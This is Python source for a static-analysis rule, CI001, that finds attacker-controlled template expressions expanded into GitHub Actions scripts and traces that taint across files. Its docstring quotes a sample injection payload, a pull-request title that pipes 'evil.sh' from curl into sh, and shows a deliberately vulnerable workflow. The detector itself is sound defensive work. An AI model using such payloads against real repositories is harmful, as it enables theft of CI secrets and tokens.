"""CI001: attacker-controlled expressions expanded into shell scripts and code."""

from __future__ import annotations

import enum
from collections.abc import Iterator, Mapping, Sequence
from typing import ClassVar

from outwork.analyzers.pipelines import data
from outwork.analyzers.pipelines.checks import WorkflowCheck
from outwork.analyzers.pipelines.expressions import expressions, value_contexts
from outwork.analyzers.pipelines.flows import FLOWS, cross_file, local_target
from outwork.analyzers.pipelines.paths import key_path
from outwork.analyzers.pipelines.workflow import (
    MAX_FINDINGS_PER_SINK,
    Document,
    Job,
    Outputs,
    Step,
    Taint,
    Where,
    Workflow,
    lookup,
)
from outwork.analyzers.pipelines.yamlpos import Node
from outwork.core.analyzer import Component, Emitted
from outwork.core.findings import Finding, Location, finding
from outwork.core.rules import Confidence, Layer, Rule, Severity

#: The inputs of a ``docker://`` step that become the container's command line.
DOCKER_STEP_SINKS = ("args", "entrypoint")


class Tainted(enum.Enum):
    """Whose value an expression expands."""

    ATTACKER = "a value an outsider chooses (titles, bodies, comments, a fork's branch name)"
    UNCERTAIN = (
        "a value an outsider may choose (workflow inputs, this repository's branch and tag"
        " names, other event fields, outputs of actions that read them)"
    )
    UNSET_ENV = (
        "an environment variable the file does not set to a constant (set by a caller, a"
        " GITHUB_ENV write or an expression outwork found no attacker data in)"
    )
    UNTRACED = (
        "a value whose source is not traced (outputs of steps and jobs, matrix values and"
        " contexts built from expressions that read no attacker data)"
    )
    FIXED = (
        "a value no outsider sets (secrets, runner paths, constants): reported only by the"
        " pedantic persona, which wants every expression out of scripts"
    )


class TemplateInjection(Rule):
    """An attacker-controlled expression is expanded into a shell script or JavaScript code.

    ## What it finds
    `${{ ... }}` expressions in `run:` scripts and in `actions/github-script` code whose value an
    outsider controls: issue and pull-request titles and bodies, comment bodies, branch names,
    commit messages, and values derived from them through `env`, step outputs (`$GITHUB_OUTPUT`)
    and job outputs (`needs.*.outputs.*`), and matrices: a value listed in the matrix, or every
    `matrix.*` when the matrix or its `include:` is one expression such as
    `${{ fromJSON(github.event.comment.body) }}` (the attacker then writes the keys and the
    values). Besides `run:`, the sinks are the code inputs of actions that evaluate them
    (`actions/github-script`'s `script`, a data table) and the `args`/`entrypoint` of a
    `docker://` step, which become the container's command line. The evidence names the taint
    path, for example `github.event.issue.title -> env.TITLE -> jobs.triage.steps[0].run`.
    Workflow inputs and unknown event fields are reported with low confidence (medium).

    Values outwork cannot trace to a source are reported at the lowest severities, with low
    confidence: an environment variable the file does not set to a constant (set by a caller of
    a composite action, by a `GITHUB_ENV` write, or from an expression that reads no attacker
    data) is low; outputs of steps and jobs whose source is not known, matrix values built
    from such expressions, and unknown contexts are info. Constants, `secrets`, `vars`,
    `runner`, `job`, `strategy` and the `github` fields no outsider sets are never reported.

    outwork disagrees with zizmor on purpose where a field's type rules injection out: a
    timestamp (`github.event.comment.created_at`), a number or a boolean is not attacker text,
    whichever event carries it, and `(github.event.pull_request || github.event.issue).number`
    is a number. zizmor reports the first at high and the last as the whole objects.

    With `--persona pedantic` every other expression in a script is reported too, at low
    severity (like zizmor's pedantic persona): `${{ runner.temp }}`, `${{ secrets.TOKEN }}`,
    even a constant. None of them is an injection; the persona asks for scripts that read
    values only through the environment.

    Taint is followed across files: when a workflow hands attacker data to a composite action or
    reusable workflow of the same repository (`uses: ./...` with `with:`), directly or through
    the inputs of further local files, the called file's script that expands the input is
    reported at high severity with the whole path in its evidence, from the caller's trigger:
    `on issue_comment (caller.yml) -> github.event.comment.body -> caller.yml:10
    jobs.call.with.title -> inputs.title -> jobs.show.steps[0].run`. The called file keeps its
    own medium finding for the input (other callers may pass anything).

    ## Why it matters
    GitHub substitutes expressions into the script text before the shell sees it, so a pull
    request titled `"; curl evil.sh | sh; #` runs the attacker's command with the job's token and
    secrets. This is the most common way repositories leak secrets through their CI.

    ## Example
    ```yaml
    on: issues
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: echo "${{ github.event.issue.title }}"
    ```

    ## Remediation
    Pass the value through an environment variable and quote it in the shell:
    `env: {TITLE: "${{ github.event.issue.title }}"}` then `run: echo "$TITLE"`. Never re-expand
    it with `${{ env.TITLE }}`.

    ## References
    - GitHub Docs, "Security hardening for GitHub Actions: understanding the risk of script
      injections"
    - zizmor audit `template-injection`
    - CWE-94: Improper Control of Generation of Code ('Code Injection')
    """

    code = "CI001"
    name = "template-injection"
    layer = Layer.CI
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        Tainted.ATTACKER: Severity.HIGH,
        Tainted.UNCERTAIN: Severity.MEDIUM,
        Tainted.UNSET_ENV: Severity.LOW,
        Tainted.UNTRACED: Severity.INFO,
        Tainted.FIXED: Severity.LOW,
    }
    cwe = (94, 78)
    attack = ("T1059",)


class TemplateInjectionCheck(WorkflowCheck):
    """``run:`` scripts and the code inputs of actions (``data.ACTION_CODE_SINKS``) that expand
    tainted contexts; a called workflow handed attacker data marks the job injected."""

    rules = (TemplateInjection,)

    def __init__(self, wf: Workflow) -> None:
        super().__init__(wf)
        #: What crosses this file's boundary (see ``pipelines.flows``).
        self.sinks: list[dict[str, object]] = []
        self.calls: list[dict[str, object]] = []

    def job(self, job: Job) -> Iterator[Emitted]:
        assert job.node is not None
        uses = job.node.get("uses")
        with_ = job.node.get("with")
        if uses is None or not uses.is_str or with_ is None or not with_.is_map:
            return iter(())
        for _, value in with_.items():
            hits = self.wf.taints_in(value.value, {}, {}) if value.is_str else []
            if any(t.confidence is Confidence.HIGH for _, t in hits):
                job.injected = True  # attacker data handed to the called workflow
        self._calls(uses.value, with_, (*job.base, "with"), {}, {})
        return iter(())

    def _calls(
        self, uses: str, with_: Node, where: Where, env: dict[str, Taint], outputs: Outputs
    ) -> None:
        """Record what a ``uses: ./...`` hands the local action or workflow: attacker data with
        its path, or one of this file's own inputs passed on."""
        target = local_target(self.wf.path, uses)
        if target is None:
            return
        for name, value in with_.items():
            if not value.is_str:
                continue
            for _, taint in self.wf.taints_in(value.value, env, outputs):
                at = key_path(*where, name)
                if taint.confidence is Confidence.HIGH:
                    chain: dict[str, object] = {"chain": list(taint.chain)}
                elif len(taint.chain) >= 1 and taint.chain[0].startswith("inputs."):
                    chain = {"forward": taint.chain[0].split(".", 1)[1]}
                else:
                    continue
                self.calls.append(
                    {"target": target, "input": name, "line": value.line, "at": at, **chain}
                )
                break

    def document(self) -> Iterator[Emitted]:
        if self.sinks or self.calls:
            yield Component(
                FLOWS,
                "pipeline flows",
                properties={
                    "events": sorted(self.wf.names),
                    "sinks": self.sinks,
                    "calls": self.calls,
                },
            )

    def step(self, step: Step) -> Iterator[Emitted]:
        if step.uses.startswith("./"):
            with_ = step.node.get("with")
            if with_ is not None and with_.is_map:
                self._calls(step.uses, with_, (*step.where, "with"), step.env, step.outputs)
        if step.run is not None and step.run.is_str:
            yield from self._sink(step, step.run, step.script, (*step.where, "run"))
        with_ = step.node.get("with")
        if with_ is None or not with_.is_map:
            return
        if step.uses.startswith("docker://"):
            # the container's command line: GitHub splits the expanded text into arguments
            keys: tuple[str, ...] = DOCKER_STEP_SINKS
        else:
            sink = lookup(data.ACTION_CODE_SINKS, step.name)
            if sink is None:
                return
            keys = sink[1]
        for key, code in with_.items():
            if key.lower() in keys and code.is_str:
                yield from self._sink(step, code, code.value, (*step.where, "with", key))

    def _sink(self, step: Step, node: Node, script: str, where: Where) -> Iterator[Emitted]:
        occurrence: dict[str, int] = {}
        cursor: dict[str, int] = {}
        emitted = 0
        doc = self.wf.doc
        for expr in expressions(script):
            raw = script[expr.start : expr.end]
            count = occurrence[raw] = occurrence.get(raw, -1) + 1
            found = value_contexts(expr.body)
            hits = [self.wf.classify(c, step.env, step.outputs) for c in found]
            tainted = [h for h in hits if h]
            level: Tainted | None = None
            if not tainted:
                untraced = [(c, u) for c in found if (u := self._untraced(c, step)) is not None]
                if untraced:
                    level = max((u for _, u in untraced), key=_LEVEL_ORDER.index)
                    tainted = [Taint((c,), Confidence.LOW) for c, _ in untraced]
                elif self.wf.pedantic:
                    level = Tainted.FIXED
                    named = found or [" ".join(expr.body.split())[:80]]
                    tainted = [Taint((c,), Confidence.HIGH) for c in named[:1]]
                else:
                    continue
            index = doc.find_after(node, raw, cursor.get(raw, node.start - 1))
            if index >= 0:
                cursor[raw] = index
                position = doc.position(index)
            else:
                position = (node.line, node.col)
            attacker = level is None and any(t.confidence is Confidence.HIGH for t in tainted)
            if step.job.id is not None and attacker:
                step.job.injected = True
            if level is None:
                self._record_sink(position, where, tainted)
            spots = _spots(doc, node, raw, index, tainted) if "\n" in raw else {}
            for item in _findings(position, raw, count, tainted, where, level, spots):
                emitted += 1
                if emitted > MAX_FINDINGS_PER_SINK:
                    return
                yield item

    def _untraced(self, ctx: str, step: Step) -> Tainted | None:
        """How little is known of a context outwork found no attacker data in: None when its
        value is fixed or the maintainers' (``secrets``, ``vars``, ``runner``, known ``github``
        fields, an environment variable set to a constant), else the level to report it at."""
        head, _, rest = ctx.partition(".")
        if head in _FIXED_HEADS or (not rest and head != "matrix"):
            return None
        if head == "env":
            return None if _static_env(self.wf, step, rest.split(".", 1)[0]) else Tainted.UNSET_ENV
        if head == "matrix":
            return None if _static_matrix(step, rest.split(".", 1)[0]) else Tainted.UNTRACED
        return Tainted.UNTRACED

    def _record_sink(self, position: tuple[int, int], where: Where, tainted: list[Taint]) -> None:
        """A sink that expands one of the file's own inputs: what callers may reach."""
        if self.wf.kind != "action" and "workflow_call" not in self.wf.names:
            return
        for taint in tainted:
            if taint.chain[0].startswith("inputs."):
                self.sinks.append(
                    {
                        "input": taint.chain[0].split(".", 1)[1],
                        "line": position[0],
                        "column": position[1],
                        "at": key_path(*where),
                        "chain": list(taint.chain[1:]),
                    }
                )


def cross_file_findings(components: Sequence[tuple[str, Component]]) -> Iterator[Finding]:
    """CI001 for each script of a local action or reusable workflow that attacker data reaches
    from a caller in another file: at the sink, with the caller's trigger and path."""
    for file, sink, came, name in cross_file(components):
        events = "/".join(came.events) or "its callers"
        chain = [
            f"on {events} ({came.caller})",
            *came.chain,
            f"inputs.{name}",
            *map(str, sink.get("chain", ())),
            str(sink["at"]),
        ]
        yield finding(
            TemplateInjection,
            f"{came.chain[0]} reaches inputs.{name} from {came.caller} (on {events}) and is"
            " expanded into a script",
            path=file,
            line=int(sink["line"]),
            column=int(sink["column"]),
            logical=f"{sink['at']}:inputs.{name}<-{came.caller}",
            severity=TemplateInjection.severity_in(Tainted.ATTACKER),
            confidence=Confidence.HIGH,
            evidence=" -> ".join(chain),
            related=(Location(came.caller, came.line),),
            properties={"taint": chain, "caller": came.caller, "caller_events": list(came.events)},
        )


#: Context heads whose values no outsider sets (the step outputs, job outputs and matrix values
#: built from them are judged by their path instead).
_FIXED_HEADS = frozenset(
    {"secrets", "vars", "runner", "job", "jobs", "strategy", "github", "inputs"}
)
_LEVEL_ORDER = (Tainted.UNTRACED, Tainted.UNSET_ENV, Tainted.UNCERTAIN, Tainted.ATTACKER)


def _static_env(wf: Workflow, step: Step, name: str) -> bool:
    """Whether ``env.<name>`` at this step is a constant this file sets (the nearest scope that
    defines it wins)."""
    scopes = [step.node.get("env")]
    if step.job.node is not None:
        scopes.append(step.job.node.get("env"))
    if wf.kind == "workflow":
        scopes.append(wf.root.get("env"))
    for scope in scopes:
        if scope is None or not scope.is_map:
            continue
        for key, value in scope.items():
            if key.lower() == name:
                return value.is_str and "${{" not in value.value
    return False


def _static_matrix(step: Step, key: str) -> bool:
    """Whether every value the matrix gives ``key`` is written out without an expression."""
    node = step.job.node
    matrix = node.sub("strategy", "matrix") if node is not None else None
    if matrix is None:
        return True  # no matrix: an invalid reference, nothing to expand
    include = matrix.get("include")
    for whole in (matrix, include):  # the matrix, or its include list, as one expression
        if whole is not None and whole.is_str:
            read = [c for e in expressions(whole.value) for c in value_contexts(e.body)]
            if any(c.partition(".")[0] not in _FIXED_HEADS for c in read):
                return False
    if not matrix.is_map:
        return True
    values = [matrix.get(key), *(e.get(key) for e in matrix.children("include") if e.is_map)]
    return all("${{" not in n.value for v in values if v is not None for n in v.strings())


def _spots(
    doc: Document, node: Node, raw: str, index: int, tainted: list[Taint]
) -> dict[str, tuple[int, int]]:
    """Where each context of a multi-line expression is written (block scalars indent the
    source, so the expression's text is not found whole)."""
    start = index if index >= 0 else doc.find_after(node, raw.split("\n", 1)[0], node.start - 1)
    if start < 0:
        return {}
    spots: dict[str, tuple[int, int]] = {}
    for taint in tainted:
        at = doc.find_after(node, taint.chain[0], start)
        if at >= 0:
            spots[taint.chain[0]] = doc.position(at)
    return spots


def _findings(
    position: tuple[int, int],
    raw: str,
    count: int,
    hits: list[Taint],
    where: Where,
    level: Tainted | None = None,
    spots: Mapping[str, tuple[int, int]] | None = None,
) -> Iterator[Emitted]:
    seen: set[str] = set()
    for taint in hits:
        if taint.chain[0] in seen:
            continue
        seen.add(taint.chain[0])
        line, col = (spots or {}).get(taint.chain[0], position)
        nth = f"#{count + 1}" if count else ""
        chain = " -> ".join((*taint.chain, key_path(*where)))
        high = taint.confidence is Confidence.HIGH
        tier = level or (Tainted.ATTACKER if high else Tainted.UNCERTAIN)
        yield finding(
            TemplateInjection,
            f"{taint.chain[0]} is expanded into {_sink_name(where)}{_NOTES[tier]}",
            line=line,
            column=col,
            logical=f"{key_path(*where)}:{taint.chain[0]}{nth}",
            severity=TemplateInjection.severity_in(tier),
            confidence=taint.confidence,
            evidence=chain,
            properties={"taint": [*taint.chain, key_path(*where)]},
        )


_NOTES = {
    Tainted.ATTACKER: "",
    Tainted.UNCERTAIN: " (may be attacker-controlled)",
    Tainted.UNSET_ENV: " (an environment variable this file does not set to a constant)",
    Tainted.UNTRACED: " (its value was not traced to a source)",
    Tainted.FIXED: " (no outsider sets it; reported by the pedantic persona)",
}


def _sink_name(where: Where) -> str:
    """What the expanded text becomes, for messages."""
    if "with" in where and where[-1] in DOCKER_STEP_SINKS:
        return "a container's command line"
    return "code" if "script" in where else "a script"
